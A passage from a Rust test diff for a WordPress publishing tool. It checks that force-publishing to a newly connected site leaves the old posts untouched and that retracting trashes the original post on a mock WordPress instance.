+    assert_eq!(out["action"], "created", "{out}");
+    assert_eq!(env.json(&["wp", "publish", &gone, "--force"])["action"], "created");
+    assert!(
+        !writes(&new)
+            .iter()
+            .any(|r| r.path.ends_with(&format!("/posts/{live_post}"))
+                || r.path.ends_with(&format!("/posts/{gone_post}"))),
+        "{:?}",
+        writes(&new)
+    );
+    assert_eq!((post(&new, live_post), post(&new, gone_post)), before);
+    // Back on the first WordPress, the token finds the item's post there again.
+    crate::support::mockwp::connect_core(&env, "acme/blog", &old);
+    let r = env.json(&["content", "retract", &live]);
+    assert_eq!((r["action"].as_str(), r["external_id"].as_i64()), (Some("retracted"), Some(live_post)), "{r}");
+    assert_eq!(post(&old, live_post)["status"], "trash");
+}
